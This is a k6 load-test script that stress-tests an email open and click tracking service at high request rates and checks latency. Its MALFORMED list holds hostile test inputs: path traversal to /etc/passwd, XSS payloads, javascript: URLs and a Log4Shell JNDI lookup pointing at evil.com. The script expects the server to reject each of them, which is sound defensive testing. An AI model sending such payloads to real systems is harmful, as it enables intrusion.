// Opens and clicks as 3.2 of the strategy has them: 5,000 a minute, 60% opens, twice that for a minute somewhere in every
// five, many programs, 2% that nobody has seen before (so that what is remembered of programs is of no help), and 1% beside
// them that is malformed.
//
//   k6 run -e API_URL=http://localhost:8080 -e LINKS=links.json tests/performance/k6-tracking-stress.js
//
// Without LINKS, identifiers are well-formed and nobody's: the answers are the same, nothing is counted, and a click is
// answered with a page that asks in place of a redirect, since nobody has signed its target.

import http from 'k6/http'
import encoding from 'k6/encoding'
import { SharedArray } from 'k6/data'
import { API_URL } from './k6/target.js'
import { RATE, awaitBegin, number, scenarios, withBursts } from './k6/arrivals.js'
import { judge, thresholds } from './k6/answers.js'

// Links of mails that were really sent: { "opens": ["/track/open/..."], "clicks": ["/track/click/...?url=...&s=..."] }
const opens = links('opens')
const clicks = links('clicks')

function links(key) {
  return new SharedArray(key, () => (__ENV.LINKS ? JSON.parse(open(__ENV.LINKS))[key] : []))
}

const TARGET = encoding.b64encode('https://example.com/test', 'rawurl')

const PROGRAMS = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:139.0) Gecko/20100101 Thunderbird/139.0',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18730; Pro)',
  'Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)',
  'YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html',
]

const MALFORMED = [
  '/track/open/..%2F..%2F..%2Fetc%2Fpasswd',
  '/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D',
  '/track/open/a.b',
  `/track/open/${'a'.repeat(65)}`,
  '/track/click/abc?url=javascript:alert(1)',
  '/track/click/abc?url=amF2YXNjcmlwdDphbGVydCgxKQ',
]

const rate = RATE(5000)

export const options = {
  scenarios: scenarios(
    {
      'track-open': { rate: rate * 0.58, exec: 'openMail' },
      'track-click': { rate: rate * 0.4, exec: 'click' },
      'track-unseen': { rate: rate * 0.02, exec: 'openUnseen' },
      'track-malformed': { rate: rate * 0.01, exec: 'malformed' },
    },
    withBursts('30m', 300, 60, 2),
  ),
  thresholds: thresholds(0.0001, {
    'track-open': ['p(50)<10', 'p(95)<50', 'p(99)<100', 'max<200'],
    'track-click': ['p(50)<15', 'p(95)<50', 'p(99)<100', 'max<200'],
    'track-unseen': ['p(95)<50', 'p(99)<100', 'max<200'],
  }),
  discardResponseBodies: true,
}

export function setup() {
  awaitBegin()
}

const one = (list) => list[Math.floor(Math.random() * list.length)]

function identifier() {
  let made = ''
  while (made.length < 22) {
    made += Math.random().toString(36).slice(2)
  }
  return made.slice(0, 22)
}

// A click is not followed: where it leads is somebody else's server.
function ask(endpoint, name, path, program, expected) {
  const begunMs = Date.now()
  const response = http.get(`${API_URL}${path}`, {
    headers: { 'User-Agent': program },
    tags: { name, endpoint },
    timeout: '30s',
    redirects: 0,
    responseCallback: http.expectedStatuses(...expected),
  })
  judge(endpoint, begunMs, response, expected)
}

const openPath = () => (opens.length > 0 ? one(opens) : `/track/open/${identifier()}`)

export const openMail = () => ask('track-open', 'GET /track/open/:id', openPath(), one(PROGRAMS), [200])

export const openUnseen = () =>
  ask('track-unseen', 'GET /track/open/:id', openPath(), `${one(PROGRAMS)} Reader/${identifier()}.${number()}`, [200])

export function click() {
  const [path, status] = clicks.length > 0
    ? [one(clicks), 302]
    : [`/track/click/${identifier()}?url=${TARGET}`, 200]
  ask('track-click', 'GET /track/click/:id', path, one(PROGRAMS), [status])
}

export const malformed = () =>
  ask('track-malformed', 'GET /track/... that is malformed', one(MALFORMED), 'scanner', [400, 404])
